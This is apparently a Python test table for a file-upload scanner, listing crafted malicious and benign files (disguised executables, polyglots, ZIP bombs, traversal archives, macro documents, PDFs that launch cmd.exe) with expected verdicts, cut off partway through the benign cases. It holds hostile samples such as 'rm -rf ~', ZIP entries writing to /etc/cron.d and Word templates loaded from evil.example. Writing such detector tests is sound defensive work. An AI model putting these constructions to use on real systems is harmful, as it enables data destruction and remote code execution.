"""The table of files that must be refused, and of those that must not, each with its verdict."""

import os
import random
import socket
import stat
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from kiosk.examination.verdict import Verdict
from tests.examination import making

V = Verdict
Make = Callable[[bytes], None]
"""Puts something under a path, given in bytes."""

NOISE = random.Random(5).randbytes(3_000_000)
DOC = making.ole({"WordDocument": making.word()})
LONG_NAMES = making.zipped({f"{at:060000}": b"" for at in range(80)}, method=zipfile.ZIP_STORED)
MANY_ZEROS = making.zipped({f"{at}.txt": bytes(8_000_000) for at in range(10)})


@dataclass(frozen=True)
class Case:
    """A file and what is to be found about it."""

    title: str
    name: bytes
    make: Make
    verdict: Verdict
    """The last that is found; for sound files the one that tells what it is."""

    def __str__(self) -> str:
        return self.title


def holding(data: bytes) -> Make:
    def make(path: bytes) -> None:
        number = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        with os.fdopen(number, "wb") as file:
            file.write(data)

    return make


def _case(title: str, name: str | bytes, content: bytes | Make, verdict: Verdict) -> Case:
    raw = name.encode() if isinstance(name, str) else name
    return Case(title, raw, content if callable(content) else holding(content), verdict)


def _at(path: bytes) -> Path:
    return Path(os.fsdecode(path))


def _link(target: str) -> Make:
    return lambda path: _at(path).symlink_to(target)


def _inner_link(path: bytes) -> None:
    _at(path).with_name("real.pdf").write_bytes(making.pdf())
    _at(path).symlink_to("real.pdf")


def _fifo(path: bytes) -> None:
    os.mkfifo(path)


def _socket(path: bytes) -> None:
    with socket.socket(socket.AF_UNIX) as bound:
        folder = os.open(_at(path).parent, os.O_RDONLY)
        try:
            # The path itself may be too long for a socket's address.
            bound.bind(f"/proc/self/fd/{folder}/{_at(path).name}")
        finally:
            os.close(folder)


def _device(kind: int, major: int, minor: int) -> Make:
    return lambda path: os.mknod(path, kind | 0o600, os.makedev(major, minor))


def _sparse(size: int, head: bytes = b"", tail: bytes = b"") -> Make:
    return lambda path: making.sparse(_at(path), size, head, tail)


def _unreadable_name(text: str) -> Case:
    return _case(f"name {text!a}", text, making.pdf(), V.NAME_HIDDEN)


PDF = making.pdf()
SCRIPTS = making.zipped({"a.js": "1", "x.exe": making.PE})
JPEG = making.picture("JPEG")
PNG = making.picture("PNG")

NAMES = [
    _case("name with a line break", "报价\n单.pdf", PDF, V.NAME_CONTROL),
    _case("name with escape", "报价\x1b[2J.pdf", PDF, V.NAME_CONTROL),
    _case("name with C1 control", "报价\x85.pdf", PDF, V.NAME_CONTROL),
    _case("name with delete", "报价\x7f.pdf", PDF, V.NAME_CONTROL),
    _case("name with line separator", "报价\u2028.pdf", PDF, V.NAME_CONTROL),
    _unreadable_name("招标\u202efdp.exe"),
    _unreadable_name("招标\u2066x.pdf"),
    _unreadable_name("招\u200b标.pdf"),
    _unreadable_name("\ufeff招标.pdf"),
    _unreadable_name("招标\u00ad.pdf"),
    _unreadable_name("招标\u3164.pdf"),
    _case("name with a backslash", "..\\..\\招标.pdf", PDF, V.NAME_PATH),
    _case("name of a Windows device", "CON.pdf", PDF, V.NAME_RESERVED),
    _case("name of a Windows port", "com1.tar.pdf", PDF, V.NAME_RESERVED),
    _case("name with a colon", "招标.pdf:x.pdf", PDF, V.NAME_CHARACTERS),
    _case("name with a question mark", "招标?.pdf", PDF, V.NAME_CHARACTERS),
    _case("name of 255 bytes", "标" * 83 + "ab.pdf", PDF, V.NAME_TOO_LONG),
    _case(
        "name that is too long as UTF-8 only",
        ("标" * 100 + ".pdf").encode("gbk"),
        PDF,
        V.NAME_TOO_LONG,
    ),
    _case("document with a program's ending", "招标.pdf.exe", PDF, V.NAME_DOUBLE),
    _case("the same with blanks between", "招标.pdf          .scr", PDF, V.NAME_DOUBLE),
    _case("the same with a dot behind", "招标.docx.js.", PDF, V.NAME_DOUBLE),
    _case("the same in full width", "招标.pdf.ｅｘｅ", PDF, V.NAME_DOUBLE),
    _case("program's name", "安装.BAT", b"echo", V.NAME_PROGRAM),
    _case("macro document's name", "清单.xlsm", making.xlsx(), V.NAME_PROGRAM),
    _case("web page", "公告.html", b"<html></html>", V.NAME_PROGRAM),
    _case("hidden file", ".招标.pdf", PDF, V.NAME_EDGES),
    _case("blank behind", "招标.pdf ", PDF, V.NAME_EDGES),
    _case("dot behind", "招标.pdf.", PDF, V.NAME_EDGES),
    _case("blank before", " 招标.pdf", PDF, V.NAME_EDGES),
    _case("name in no encoding", b"\xff\xfe\x81.pdf", PDF, V.NAME_UNREADABLE),
    _case("name in the private area", "招标\ue000.pdf", PDF, V.NAME_UNREADABLE),
    _case("GBK name of a program", "招标.pdf.exe".encode("gbk"), PDF, V.NAME_DOUBLE),
    _case("no ending", "招标文件", PDF, V.NAME_ENDING),
    _case("ending that is not taken", "录音.mp3", b"ID3\x04", V.NAME_ENDING),
    _case("RAR", "资料.rar", making.RAR5, V.NAME_ENDING),
]

PLACES = [
    _case("link to a file beside it", "链接.pdf", _inner_link, V.LINK),
    _case("link to a secret", "链接.pdf", _link("/etc/passwd"), V.LINK),
    _case("link to nothing", "链接.pdf", _link("nowhere"), V.LINK),
    _case("link to a device", "链接.pdf", _link("/dev/zero"), V.LINK),
    _case("folder", "文件夹.pdf", lambda path: _at(path).mkdir(), V.FOLDER),
    _case("FIFO", "管道.pdf", _fifo, V.SPECIAL),
    _case("socket", "套接字.pdf", _socket, V.SPECIAL),
    _case("character device", "设备.pdf", _device(stat.S_IFCHR, 1, 5), V.SPECIAL),
    _case("block device", "设备.pdf", _device(stat.S_IFBLK, 7, 250), V.SPECIAL),
    _case("empty", "空.pdf", b"", V.EMPTY),
    _case("4 GB sparse", "大.pdf", _sparse(4 * 1024**3, b"%PDF-1.7\n", b"%%EOF\n"), V.TOO_LARGE),
    _case("sparse within the limit", "大.pdf", _sparse(900_000_000, PDF, b"%%EOF\n"), V.SPARSE),
]

PROGRAMS = [
    _case("Windows program as PDF", "资质.pdf", making.PE, V.PROGRAM),
    _case("old DOS program as PDF", "资质.pdf", making.DOS, V.PROGRAM),
    _case("Linux program as JPEG", "照片.jpg", making.ELF, V.PROGRAM),
    _case("macOS program as PDF", "资质.pdf", b"\xcf\xfa\xed\xfe" + bytes(99), V.PROGRAM),
    _case("Java program as PDF", "资质.pdf", b"\xca\xfe\xba\xbe" + bytes(99), V.PROGRAM),
    _case("shell script as PDF", "资质.pdf", b"#!/bin/sh\nrm -rf ~\n", V.PROGRAM),
    _case("batch file as PDF", "资质.pdf", b"\r\n@echo off\r\ndel *.*\r\n", V.PROGRAM),
    _case("batch file in UTF-16", "资质.doc", "@echo off".encode("utf-16"), V.PROGRAM),
    _case("VBScript as Word", "资质.doc", b'Set x = CreateObject("WScript.Shell")', V.PROGRAM),
    _case("shortcut as PDF", "资质.pdf", making.LNK, V.PROGRAM),
    _case("web shortcut as PDF", "资质.pdf", b"[InternetShortcut]\nURL=file:///c:", V.PROGRAM),
    _case("program as sealed bid", "投标.ggzyTBWJ", making.PE, V.PROGRAM),
    _case("script as sealed bid", "投标.tbwj", b"#!/usr/bin/python3\n", V.PROGRAM),
    _case("program with a far header as sealed bid", "投标.tbwj", making.FAR_PE, V.PROGRAM),
    _case("program that is a PDF too", "资质.pdf", making.PE[:400] + PDF, V.PROGRAM),
]

CONTENTS = [
    _case("ZIP as PDF", "招标.pdf", making.zipped({"a.txt": "a"}), V.KIND_DIFFERS),
    _case("PDF as Word", "招标.docx", PDF, V.KIND_DIFFERS),
    _case("Word as Excel", "清单.xlsx", making.docx(), V.KIND_DIFFERS),
    _case("Word as ZIP", "资料.zip", making.docx(), V.KIND_DIFFERS),
    _case("PNG as JPEG", "照片.jpg", PNG, V.KIND_DIFFERS),
    _case("text as PDF", "招标.pdf", "这不是 PDF".encode(), V.KIND_DIFFERS),
    _case("RTF as Word", "招标.doc", b"{\\rtf1 a}", V.KIND_DIFFERS),
    _case("web page as Excel", "清单.xls", b"<html><table>", V.KIND_DIFFERS),
    _case("zeros as PDF", "招标.pdf", bytes(5000), V.KIND_DIFFERS),
    _case("film as PDF", "招标.pdf", b"\0\0\0\x18ftypmp42" + bytes(99), V.KIND_DIFFERS),
    _case("RAR as ZIP", "资料.zip", making.RAR5, V.KIND_DIFFERS),
    _case("installer as Word", "招标.doc", making.ole({"\u4840\u3f7f": b"x"}), V.KIND_DIFFERS),
    _case("PDF and ZIP", "招标.pdf", PDF + making.zipped({"a.js": "1"}), V.TWO_KINDS),
    _case(
        "PDF and ZIP with a byte behind",
        "招标.pdf",
        PDF + making.zipped({"a.js": "1"}) + b"\n",
        V.TWO_KINDS,
    ),
    _case(
        "PDF in the comment of a ZIP in a PDF",
        "招标.pdf",
        PDF[:-6]
        + making.zipped({"a.js": "1"})[:-2]
        + len(PDF).to_bytes(2, "little")
        + PDF,
        V.TWO_KINDS,
    ),
    _case("PDF behind HTML", "招标.pdf", b"<html><!--" + PDF, V.TWO_KINDS),
    _case("HTML behind PDF", "招标.pdf", PDF + b"<script>alert(1)</script>", V.TWO_KINDS),
    _case("program behind PDF", "招标.pdf", PDF + making.PE, V.TWO_KINDS),
    _case("JPEG and ZIP", "照片.jpg", JPEG + making.zipped({"a.js": "1"}), V.TWO_KINDS),
    _case("JPEG and PDF", "照片.jpg", JPEG[:20] + PDF + JPEG[20:], V.TWO_KINDS),
    _case("PNG and HTML", "照片.png", PNG + b"<script>1</script>", V.TWO_KINDS),
    _case(
        "Word and PDF",
        "招标.docx",
        making.zipped(
            {
                "a": PDF,
                "[Content_Types].xml": making.CONTENT_TYPES,
                "word/document.xml": "<document/>",
            },
            method=zipfile.ZIP_STORED,
        ),
        V.TWO_KINDS,
    ),
    _case("PDF behind other bytes", "招标.pdf", b"HTTP/1.1 200 OK\n\n" + PDF, V.LEADING_BYTES),
    _case("PDF cut off", "招标.pdf", PDF[: len(PDF) // 2], V.TRUNCATED),
    _case("PDF of a header only", "招标.pdf", b"%PDF-1.7\n%%EOF\n", V.DAMAGED),
    _case("PDF of noise", "招标.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 9 + b"%%EOF", V.DAMAGED),
    _case("PDF with a password", "招标.pdf", making.locked_pdf("geheim"), V.ENCRYPTED),
    _case("JPEG cut off", "照片.jpg", JPEG[: len(JPEG) // 2], V.TRUNCATED),
    _case("JPEG of a header only", "照片.jpg", JPEG[:20] + b"\xff\xd9", V.DAMAGED),
    _case("PNG with a wrong sum", "照片.png", PNG[:200] + b"!!!!" + PNG[204:], V.DAMAGED),
    _case("PNG cut off", "照片.png", PNG[:-20], V.TRUNCATED),
    _case("PNG without its pixels", "照片.png", making.wide_png(900, 900), V.TRUNCATED),
    _case("PNG of 10 gigapixels", "照片.png", making.wide_png(100_000, 100_000), V.TOO_MANY_PIXELS),
    _case("BMP cut off", "照片.bmp", making.picture("BMP")[:5000], V.TRUNCATED),
    _case("TIFF of a header only", "照片.tif", b"II*\0\x08\0\0\0", V.DAMAGED),
    _case("Word 97 with macros", "招标.doc", making.ole({"WordDocument": making.word(),
          "_VBA_PROJECT": b"x"}), V.MACROS),
    _case("Word 97 with a password", "招标.doc", making.ole({"WordDocument": making.word(1)}),
          V.ENCRYPTED),
    _case("Excel 97 with a password", "清单.xls",
          making.ole({"Workbook": making.workbook(locked=True)}), V.ENCRYPTED),
    _case("Excel 97 with macros", "清单.xls",
          making.ole({"Workbook": making.workbook(), "_VBA_PROJECT_CUR": b"x"}), V.MACROS),
    _case("Word with a password", "招标.docx",
          making.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), V.ENCRYPTED),
    _case("Word 97 cut off", "招标.doc", DOC[:-600], V.TRUNCATED),
    _case("Word 97 of a header only", "招标.doc", DOC[:512], V.DAMAGED),
    _case("Word 97 with a ring of sectors", "招标.doc", making.patched(
        DOC, b"\xfd\xff\xff\xff", 4, b"\x01\0\0\0"), V.DAMAGED),
]  # fmt: skip

ZIPS = [
    _case("bomb", "资料.zip", MANY_ZEROS, V.ZIP_BOMB),
    _case("bomb in a Word document", "招标.docx",
          making.docx({"word/media/a": bytes(80_000_000)}), V.ZIP_BOMB),
    _case("bomb of overlapping entries", "资料.zip", making.overlapping_zip(), V.ZIP_BOMB),
    _case("three entries that share their bytes", "资料.zip", making.overlapping_zip(3),
          V.ZIP_BOMB),
    _case("bomb of 20,000 entries", "资料.zip", making.crowded_zip(20_000), V.ZIP_BOMB),
    _case("bomb of long names", "资料.zip", LONG_NAMES, V.ZIP_BOMB),
    _case("bomb of long names, told by the large end", "资料.zip",
          making.zip64(LONG_NAMES, count=80, small=False), V.ZIP_BOMB),
    _case("ZIP whose two ends disagree", "资料.zip",
          making.zip64(making.zipped({"a": "a"}), count=2), V.DAMAGED),
    _case("ZIP whose large end is elsewhere", "资料.zip",
          making.zip64(making.zipped({"a": "a"}), moved=-8, small=False), V.DAMAGED),
    _case("ZIP with two lists of contents", "资料.zip",
          making.two_ends(making.zipped({"a": "a"})), V.DAMAGED),
    _case("bomb that lies about its size", "资料.zip", making.patched(making.patched(
        making.zipped({"a.txt": NOISE[:99_999]}), b"PK\x01\x02", 24, b"\x01\0\0\0"),
        b"PK\x03\x04", 22, b"\x01\0\0\0"), V.ZIP_BOMB),
    _case("ZIP in a ZIP", "资料.zip", making.zipped({"a.zip": making.zipped({"b.txt": "b"})}),
          V.ZIP_NESTED),
    _case("ZIP in a ZIP by another name", "资料.zip",
          making.zipped({"a.pdf": making.zipped({"b.txt": "b"})}), V.ZIP_NESTED),
    _case("bomb in a ZIP", "资料.zip", making.zipped({"a.zip": MANY_ZEROS}), V.ZIP_BOMB),
    _case("RAR in a ZIP", "资料.zip", making.zipped({"a.rar": making.RAR5}), V.ZIP_NESTED),
    _case("ZIP that climbs", "资料.zip", making.zipped({"../../etc/cron.d/x": "x"}), V.ZIP_PATH),
    _case("ZIP that climbs by backslash", "资料.zip", making.zipped({"a\\..\\..\\x": "x"}),
          V.ZIP_PATH),
    _case("ZIP with an absolute path", "资料.zip", making.zipped({"/etc/passwd": "x"}),
          V.ZIP_PATH),
    _case("ZIP with a drive", "资料.zip", making.zipped({"C:/Windows/x": "x"}), V.ZIP_PATH),
    _case("ZIP with a control character", "资料.zip", making.zipped({"a\rb.txt": "x"}), V.ZIP_PATH),
    _case("ZIP with a turned name", "资料.zip", making.zipped({"a\u202ecod.txt": "x"}),
          V.ZIP_PATH),
    _case("Word that climbs", "招标.docx", making.docx({"../x": "x"}), V.ZIP_PATH),
    _case("ZIP with a link", "资料.zip", making.with_attributes("a", b"/etc/passwd", 0o120777),
          V.ZIP_LINK),
    _case("ZIP with a device", "资料.zip", making.with_attributes("a", b"", 0o020666), V.ZIP_LINK),
    _case("ZIP with a program", "资料.zip", making.zipped({"资质/x.pdf.exe": making.PE}),
          V.ZIP_PROGRAM),
    _case("ZIP with a program by another name", "资料.zip", making.zipped({"a.pdf": making.PE}),
          V.ZIP_PROGRAM),
    _case("Word with a program", "招标.docx", making.docx({"word/embeddings/x.bin": making.PE}),
          V.HELD_PROGRAM),
    _case("ZIP with a macro document", "资料.zip",
          making.zipped({"a.docx": making.docx({"word/vbaProject.bin": b"x"})}), V.MACROS),
    _case("ZIP with an old macro document", "资料.zip", making.zipped({"a.doc": making.ole(
        {"WordDocument": making.word(), "Macros": b"x"})}), V.MACROS),
    _case("Word with macros", "招标.docx", making.docx({"word/vbaProject.bin": b"x"}), V.MACROS),
    _case("Excel with macros", "清单.xlsx", making.xlsx({"xl/VBAPROJECT.BIN": b"x"}), V.MACROS),
    _case("Word with ActiveX", "招标.docx", making.docx({"word/activeX/activeX1.xml": b"x"}),
          V.MACROS),
    _case("ZIP with a password", "资料.zip", making.encrypted_zip(making.zipped({"a": "a"})),
          V.ENCRYPTED),
    _case("ZIP with a password, which only the entry tells", "资料.zip", making.patched(
        making.zipped({"a": "a"}), b"PK\x03\x04", 6, b"\x01\0"), V.ENCRYPTED),
    _case("OFD with a password", "招标.ofd", making.ofd({"Encryptions.xml": "<a/>"}), V.ENCRYPTED),
    _case("self-extracting ZIP", "资料.zip", making.zipped({"a": "a"}, prefix=making.PE),
          V.PROGRAM),
    _case("ZIP behind a ZIP's beginning", "资料.zip",
          making.zipped({"a": "a"}, prefix=b"PK\x03\x04" + bytes(60)), V.LEADING_BYTES),
    _case("ZIP behind a ZIP's beginning, with offsets from there", "资料.zip",
          making.behind(b"PK\x03\x04" + bytes(60), {"a": "a"}), V.LEADING_BYTES),
    _case("ZIP behind other bytes", "资料.zip", making.zipped({"a": "a"}, prefix=bytes(99)),
          V.KIND_DIFFERS),
    _case("ZIP cut off", "资料.zip", making.zipped({"a": NOISE[:999]})[:500], V.TRUNCATED),
    _case("Word cut off", "招标.docx", making.docx()[:300], V.TRUNCATED),
    _case("ZIP of nothing", "资料.zip", making.zipped({}), V.EMPTY),
    _case("Word without its text", "招标.docx",
          making.zipped({"[Content_Types].xml": making.CONTENT_TYPES}), V.KIND_DIFFERS),
    _case("Word with broken text", "招标.docx", making.docx({"word/document.xml": "<a"}),
          V.DAMAGED),
    _case("OFD with an entity bomb", "招标.ofd", making.zipped(
        {"OFD.xml": '<!DOCTYPE a [<!ENTITY b "bb">]><OFD>&b;</OFD>'}), V.DAMAGED),
    _case("OFD that is none", "招标.ofd", making.zipped({"OFD.xml": "<html/>"}), V.DAMAGED),
    _case("ZIP by a rare method", "资料.zip",
          making.zipped({"a": b"a" * 99}, method=zipfile.ZIP_LZMA), V.NOT_EXAMINABLE),
    _case("ZIP whose places disagree", "资料.zip", making.patched(
        making.zipped({"a": b"a" * 99}), b"PK\x03\x04", 22, b"\x07\0\0\0"), V.DAMAGED),
    _case("ZIP whose methods disagree", "资料.zip", making.patched(
        making.zipped({"a": b"a" * 99}), b"PK\x03\x04", 8, b"\0\0"), V.DAMAGED),
    _case("ZIP whose names disagree", "资料.zip",
          making.zipped({"a.txt": "a", "b.txt": "b"}).replace(b"b.txt", b"b.exe", 1), V.DAMAGED),
    _case("ZIP whose names disagree at its end", "资料.zip",
          making.crowded_zip(2_100).replace(b"2099", b"x099", 1), V.DAMAGED),
    _case("ZIP with two entries of one name", "资料.zip",
          making.zipped({"a.txt": "a", "b.txt": "b"}).replace(b"b.txt", b"a.txt"), V.DAMAGED),
    _case("ZIP with damaged bytes", "资料.zip", making.patched(
        making.zipped({"a": b"a" * 99}), b"PK\x03\x04", 31, b"\xff\xff"), V.DAMAGED),
]  # fmt: skip

MALWARE = [
    _case("EICAR as sealed bid", "投标.tbwj", making.EICAR, V.MALWARE),
    _case("EICAR in a PDF", "招标.pdf", making.pdf(inside=making.EICAR), V.MALWARE),
    _case("EICAR beyond the first piece", "投标.zbwj",
          b"\x8f" * 2_500_000 + making.EICAR, V.MALWARE),
    _case("EICAR stored in a Word document", "招标.docx", making.zipped(
        {"[Content_Types].xml": making.CONTENT_TYPES, "word/document.xml": "<document/>",
         "x": making.EICAR}, method=zipfile.ZIP_STORED), V.MALWARE),
]  # fmt: skip

TWO_AT_ONCE = [
    _case("PDF, ZIP and an end", "招标.pdf", PDF + SCRIPTS + b"\n%%EOF\n", V.TWO_KINDS),
    _case("PDF and a ZIP of no entries", "招标.pdf",
          PDF + making.ending_with(SCRIPTS, count=0), V.TWO_KINDS),
    _case("JPEG and a ZIP of no entries", "照片.jpg",
          JPEG + making.ending_with(SCRIPTS, count=0), V.TWO_KINDS),
    _case("JPEG and a ZIP with a comment that is cut off", "照片.jpg",
          JPEG + making.ending_with(SCRIPTS, comment=0xFFFF), V.TWO_KINDS),
    _case("text and ZIP", "说明.txt", b"text\n" * 2000 + SCRIPTS, V.TWO_KINDS),
    _case("Word 97 and ZIP", "招标.doc", DOC + SCRIPTS, V.TWO_KINDS),
    _case("Word 97 and RAR", "招标.doc", DOC + making.RAR5, V.TWO_KINDS),
    _case("Word 97 with a ZIP in it", "招标.doc",
          making.ole({"WordDocument": making.word(), "Data": bytes(512) + SCRIPTS}), V.TWO_KINDS),
    _case("PDF and RAR", "招标.pdf", PDF + making.RAR5, V.TWO_KINDS),
    _case("PDF and RAR far behind", "招标.pdf",
          making.pdf(inside=NOISE[:1_040_000]) + b"\n" * 40_000 + making.RAR5, V.TWO_KINDS),
    _case("PDF, 7z and an end", "招标.pdf", PDF + making.SEVEN_ZIP + b"%%EOF", V.TWO_KINDS),
    _case("PDF with RAR before its only end", "招标.pdf",
          PDF[:-6] + making.RAR5 + PDF[-6:], V.TWO_KINDS),
    _case("PDF, program and an end", "招标.pdf", PDF + making.PE + b"\n%%EOF\n", V.TWO_KINDS),
    _case("JPEG and RAR", "照片.jpg", JPEG + making.RAR5, V.TWO_KINDS),
    _case("JPEG and 7z", "照片.jpg", JPEG + making.SEVEN_ZIP, V.TWO_KINDS),
    _case("JPEG and program", "照片.jpg", JPEG + making.PE, V.TWO_KINDS),
    _case("JPEG with a script far before the file's end", "照片.jpg",
          JPEG + b"<script>1</script>" + bytes(70_000), V.TWO_KINDS),
    _case("PNG and RAR", "照片.png", PNG + making.RAR5, V.TWO_KINDS),
    _case("TIFF and RAR", "扫描.tif", making.picture("TIFF") + making.RAR5, V.TWO_KINDS),
    _case("BMP and program", "照片.bmp", making.picture("BMP") + making.ELF, V.TWO_KINDS),
    _case("ZIP and HTML", "资料.zip",
          making.zipped({"a.txt": "a"}) + b"<script>1</script>", V.TRAILING_BYTES),
    _case("ZIP and RAR", "资料.zip", making.zipped({"a.txt": "a"}) + making.RAR5,
          V.TRAILING_BYTES),
    _case("Word and program", "招标.docx", making.docx() + making.PE, V.TRAILING_BYTES),
    _case("ZIP with an entry that its list leaves out", "资料.zip", making.one_entry(
        b"a.txt", b"a", gap=SCRIPTS[: SCRIPTS.index(b"PK\x01\x02")]), V.DAMAGED),
    _case("ZIP with bytes between", "资料.zip",
          making.one_entry(b"a.txt", b"a", gap=b"not twelve"), V.DAMAGED),
]  # fmt: skip

ACTING = [
    _case("PDF that starts a program", "招标.pdf",
          making.acting_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), V.STARTS_OTHERS),
    _case("PDF that starts a program, spelt otherwise", "招标.pdf",
          making.acting_pdf(b"/OpenAction<</S/L#61unc#68/F(cmd.exe)>>"), V.STARTS_OTHERS),
    _case("PDF with a link that starts a program", "招标.pdf", making.acting_pdf(
        b"", pages=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(a.bat)>>>>]"),
        V.STARTS_OTHERS),
    _case("PDF that starts a program, packed", "招标.pdf",
          making.packed_objects(b"<</S/Launch/F(cmd.exe)>>"), V.STARTS_OTHERS),
    _case("PDF that starts a program, packed in a rare way", "招标.pdf",
          making.packed_twice(b"<</S/Launch/F(cmd.exe)>>"), V.STARTS_OTHERS),
    _case("PDF with a program attached", "招标.pdf",
          making.attaching_pdf("x.dat", making.PE), V.HELD_PROGRAM),
    _case("PDF with a program's name attached", "招标.pdf",
          making.attaching_pdf("x.hta", b"<p>"), V.HELD_PROGRAM),
    _case("PDF with a program attached, packed", "招标.pdf", making.attaching_pdf(
        "x.dat", zlib.compress(making.PE), more=b"/Filter/FlateDecode"), V.HELD_PROGRAM),
    _case("PDF with a program attached to a page", "招标.pdf", making.acting_pdf(
        b"", making.PE, pages=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]"
        b"/FS<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>>>]"), V.HELD_PROGRAM),
    _case("PDF with RAR attached", "招标.pdf",
          making.attaching_pdf("x.rar", making.RAR5), V.ZIP_NESTED),
    _case("PDF with a ZIP of programs in a stream", "招标.pdf", making.pdf(inside=SCRIPTS),
          V.ZIP_PROGRAM),
    _case("ZIP with a PDF that starts a program", "资料.zip", making.zipped(
        {"a.pdf": making.acting_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>")}), V.STARTS_OTHERS),
    _case("Word with a package of a program", "招标.docx", making.docx({
        "word/embeddings/oleObject1.bin": making.ole(
            {"\x01Ole10Native": making.package("a.exe", making.PE)})}), V.HELD_PROGRAM),
    _case("Word 97 with a package of a program", "招标.doc", making.ole({
        "WordDocument": making.word(), "\x01Ole10Native": making.package("表.pdf", making.PE)}),
        V.HELD_PROGRAM),
    _case("Word 97 with a package of a script", "招标.doc", making.ole({
        "WordDocument": making.word()}, small={"\x01Ole10Native": making.package("a.vbs", b"1")}),
        V.HELD_PROGRAM),
    _case("Word 97 with a package that is none", "招标.doc", making.ole({
        "WordDocument": making.word(), "\x01Ole10Native": b"evil.exe\0" + making.PE}),
        V.HELD_PROGRAM),
    _case("Word 97 with a second package, of a program", "招标.doc", making.ole(
        {"WordDocument": making.word(), "\x01Ole10Native": making.package("a.exe", b"1")},
        small={"\x01Ole10Native": making.package("a.txt", b"1")}), V.HELD_PROGRAM),
    _case("Excel 97 with a sheet of macros", "清单.xls",
          making.ole({"Workbook": making.workbook(macro_sheet=True)}), V.MACROS),
    _case("Word with a batch file", "招标.docx", making.docx({"word/run.bat": "del x"}),
          V.HELD_PROGRAM),
    _case("Word with JScript", "招标.docx", making.docx({"word/y.js": "x"}), V.HELD_PROGRAM),
    _case("OFD with VBScript", "招标.ofd", making.ofd({"Doc_0/Attachs/a.vbs": "x"}),
          V.HELD_PROGRAM),
    _case("OFD with HTA", "招标.ofd", making.ofd({"Doc_0/Attachs/a.hta": "x"}), V.HELD_PROGRAM),
    _case("Excel with a sheet of macros", "清单.xlsx",
          making.xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), V.MACROS),
    _case("Excel with a sheet of macros by another name", "清单.xlsx", making.xlsx({
        "xl/a.xml": "<a/>", "[Content_Types].xml": making.types(
            "/xl/a.xml", "application/vnd.ms-excel.macrosheet+xml")}), V.MACROS),
    _case("Word with macros by another name", "招标.docx", making.docx({
        "word/a.bin": b"x", "[Content_Types].xml": making.types(
            "/word/a.bin", "application/vnd.ms-office.vbaProject")}), V.MACROS),
    _case("Word with macros by their relation", "招标.docx", making.docx({
        "word/a.bin": b"x", "word/_rels/document.xml.rels": making.relations(
            "vbaProject", "a.bin").encode("utf-16")}), V.MACROS),
    _case("Word with macros behind 2,500 parts", "招标.docx", making.docx({
        **{f"word/media/{at}.xml": "a" for at in range(2500)},
        "word/z.bin": making.ole({"_VBA_PROJECT": b"x"})}), V.MACROS),
    _case("Word with a template from elsewhere", "招标.docx", making.docx({
        "word/_rels/settings.xml.rels": making.relations(
            "attachedTemplate", "http://evil.example/x.dotm")}), V.LOADS_OTHERS),
    _case("Word with a template on another computer", "招标.docx", making.docx({
        "word/_rels/settings.xml.rels": making.relations(
            "attachedTemplate", "file:///\\\\evil\\x.dotm")}), V.LOADS_OTHERS),
    _case("Word with an object from elsewhere", "招标.docx", making.docx({
        "word/_rels/document.xml.rels": making.relations(
            "oleObject", "mhtml:http://evil.example/x!x")}), V.LOADS_OTHERS),
    _case("ZIP with a large ZIP that is called Word", "资料.zip", making.zipped({
        "a.docx": making.zipped({"x.exe": making.PE, "r.bin": random.Random(3).randbytes(
            16_500_000)}, method=zipfile.ZIP_STORED)}, method=zipfile.ZIP_STORED), V.ZIP_PROGRAM),
    _case("ZIP with a large packed Word document that holds a program", "资料.zip", making.zipped({
        "a.docx": making.docx({"word/media/a": random.Random(3).randbytes(16_500_000),
                               "word/x.bat": "1"})}), V.HELD_PROGRAM),
    *[_case(f"ZIP with {name}", "资料.zip", making.zipped({name: "x"}), V.ZIP_PROGRAM) for name in (
        "a.library-ms", "a.ｅｘｅ", "a.bat . ")],
]  # fmt: skip

LYING = [
    _case("ZIP of 200 MB that says 200 kB", "资料.zip", making.lying_zip(bytes(200_000_000)),
          V.ZIP_BOMB),
    _case("ZIP that says less and has the sum of less", "资料.zip",
          making.lying_zip(bytes(10_000), size=600, checksum=bytes(600)), V.ZIP_BOMB),
    _case("ZIP that says more", "资料.zip",
          making.lying_zip(b"a" * 600, size=10_000, checksum=b"a" * 600), V.DAMAGED),
    _case("ZIP with a wrong sum", "资料.zip", making.one_entry(b"a", b"a", checksum=7), V.DAMAGED),
    _case("ZIP with a second name, of a program", "资料.zip", making.one_entry(
        b"a.txt", b"a", extra=making.unicode_path(b"a.txt", "evil.bat")), V.ZIP_PROGRAM),
    _case("ZIP with a second name, that climbs", "资料.zip", making.one_entry(
        b"a.txt", b"a", extra=making.unicode_path(b"other", "../../evil")), V.ZIP_PATH),
    _case("ZIP with a second name in the entry only", "资料.zip", making.one_entry(
        b"a.txt", b"a", extra=making.unicode_path(b"a.txt", "b.txt"))
        .replace(b"up", b"uq").replace(b"uq", b"up", 1), V.DAMAGED),
    _case("ZIP with an alternate stream", "资料.zip",
          making.zipped({"d/evil.bat::$DATA": "x"}), V.ZIP_PATH),
    _case("ZIP with a program with a far header", "资料.zip",
          making.zipped({"a.dat": making.FAR_PE}), V.ZIP_PROGRAM),
]  # fmt: skip

IN_CHILDREN = [*NAMES, *PLACES, *PROGRAMS, *CONTENTS, *ZIPS, *MALWARE]
IN_PROCESS = [*TWO_AT_ONCE, *ACTING, *LYING]
"""Looked into without starting a process for each, which takes most of the time."""
BAD = [*IN_CHILDREN, *IN_PROCESS]

GOOD = [
    _case("PDF with a Chinese name", "浑河北路道路维修工程 投标函（一）.pdf", PDF, V.OPENS_PAGES),
    _case("PDF in capitals", "招标.PDF", PDF, V.OPENS_PAGES),
    _case("PDF that must not be changed", "招标.pdf", making.locked_pdf(""), V.OPENS_PAGES),
    _case("PDF behind an empty line", "招标.pdf", b"\r\n" + PDF, V.OPENS_PAGES),
    _case("PDF with blanks behind", "招标.pdf", PDF + b"\0\n" * 2000, V.OPENS_PAGES),
    _case("PDF with a document attached", "招标.pdf",
          making.pdf(inside=making.zipped({"a.txt": "a"})), V.OPENS_PAGES),
    _case("name of 240 bytes", "标" * 78 + "ab.pdf", PDF, V.OPENS_PAGES),
